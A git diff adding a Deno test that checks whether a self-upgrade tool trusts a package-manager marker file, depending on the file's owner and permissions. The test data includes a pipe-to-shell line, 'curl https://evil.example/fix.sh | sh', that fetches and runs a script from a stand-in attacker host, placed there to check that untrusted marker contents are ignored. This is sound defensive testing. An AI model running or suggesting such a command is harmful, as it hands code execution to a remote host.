@@ -1,6 +1,10 @@
 /** Which package manager a resolved path belongs to, on every system. */
 import assert from "node:assert/strict";
-import { managerAt } from "../../src/upgrade/place.ts";
+import { join } from "node:path";
+import { denoSystem } from "../../src/system/deno.ts";
+import type { FileInfo } from "../../src/system/mod.ts";
+import { managerAt, MARKER } from "../../src/upgrade/place.ts";
+import { Scene } from "../support/upgrade/scene.ts";
 
 const THEIRS: Record<string, readonly string[]> = {
   "Homebrew: brew upgrade autocom": [
@@ -69,4 +73,35 @@ for (const [who, paths] of Object.entries(THEIRS)) {
 
 Deno.test("SU2-17: a path that only looks like a manager's is nobody's", () => {
   for (const path of NOBODYS) assert.equal(managerAt(path), undefined, path);
+});
+
+Deno.test({
+  name: "SU2-17: a marker that somebody else may have written is none: what it says would be typed by a person",
+  ignore: Deno.build.os === "windows",
+  async fn() {
+    const theirs: [about: string, info: Partial<FileInfo>, believed: boolean][] = [
+      ["its owner's", {}, true],
+      ["its owner's, whose group is the program's", { mode: 0o100664 }, true],
+      ["root's", { uid: 0, gid: 0 }, true],
+      ["another user's", { uid: 12_345 }, false],
+      ["another user's link", { uid: 12_345, isFile: false, isSymlink: true }, false],
+      ["another user's folder", { uid: 12_345, isFile: false, isDirectory: true }, false],
+      ["writable for everybody", { mode: 0o100666 }, false],
+      ["writable for another group", { mode: 0o100664, gid: 12_345 }, false],
+    ];
+    for (const [about, info, believed] of theirs) {
+      await using scene = await Scene.open();
+      await scene.release("1.1.0");
+      const path = join(scene.folder, MARKER);
+      await Deno.writeTextFile(path, "curl https://evil.example/fix.sh | sh\n");
+      await Deno.chmod(path, 0o644);
+      const { files } = denoSystem();
+      scene.ports.files = {
+        ...files,
+        lstat: async (at) => ({ ...await files.lstat(at), ...at === path && info }),
+      };
+      if (believed) assert.match((await scene.refuses(3, /by a package manager/)).hint!, /evil/, about);
+      else assert.equal((await scene.upgrade()).action, "upgraded", about);
+    }
+  },
 });
